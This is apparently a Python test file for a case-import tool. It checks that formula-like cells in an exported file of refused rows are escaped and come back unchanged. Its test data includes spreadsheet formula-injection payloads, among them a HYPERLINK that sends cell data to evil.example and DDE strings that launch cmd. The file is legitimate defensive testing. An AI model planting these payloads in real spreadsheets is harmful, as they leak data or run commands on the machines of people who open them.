"""What strangers typed is never run by the spreadsheet that opens the file of refused rows."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from cases.importing.formulas import as_text, as_typed
from cases.importing.history_file import COLUMNS, HistoryFile
from cases.importing.rejects import RejectsFile
from workflow.worktime import shipped_calendar

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"xem")',
    "+84912345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
]
_SIGNS = st.text(st.sampled_from("'=+-@\t ＝a1,\""), max_size=6)


def refused(folder: Path) -> Path:
    """A file of refused rows whose titles look like formulas."""
    file = folder / "rejects.csv"
    with RejectsFile(file) as rejects:
        for line, formula in enumerate(FORMULAS, start=2):
            cells = dict.fromkeys(COLUMNS, "") | {"case_ref": str(line), "at": "2026-11-23T08:00"}
            rejects.write(line, cells | {"action": "record", "title": formula}, "refused")
    return file


def test_no_cell_begins_like_a_formula(tmp_path: Path) -> None:
    with refused(tmp_path).open(encoding="utf-8-sig", newline="") as stream:
        written = [row["title"] for row in csv.DictReader(stream)]

    assert all(cell.startswith("'") for cell in written)


def test_imported_again_the_rows_are_as_they_were(tmp_path: Path) -> None:
    with HistoryFile(refused(tmp_path), shipped_calendar()) as file:
        titles = [row.cells["title"] for _, rows in file.cases() for row in rows]

    assert sorted(titles) == sorted(FORMULAS)


def test_an_apostrophe_of_any_other_file_is_left_alone(tmp_path: Path) -> None:
    file = tmp_path / "history.csv"
    file.write_text(f"{','.join(COLUMNS)}\n1,2026-11-23T08:00,record,,,,'=1+1,\n", "utf-8")

    with HistoryFile(file, shipped_calendar()) as opened:
        titles = [row.cells["title"] for _, rows in opened.cases() for row in rows]

    assert titles == ["'=1+1"]


@given(cell=st.text() | _SIGNS)
def test_whatever_was_typed_comes_back(cell: str) -> None:
    assert as_typed(as_text(cell)) == cell
    assert not as_text(cell).startswith(tuple("=+-@\t\r\n＝＋－＠"))


def test_what_begins_like_a_word_is_left_alone() -> None:
    for cell in ("", "a=1", " đường", "5", "'tis"):
        assert as_text(cell) == cell
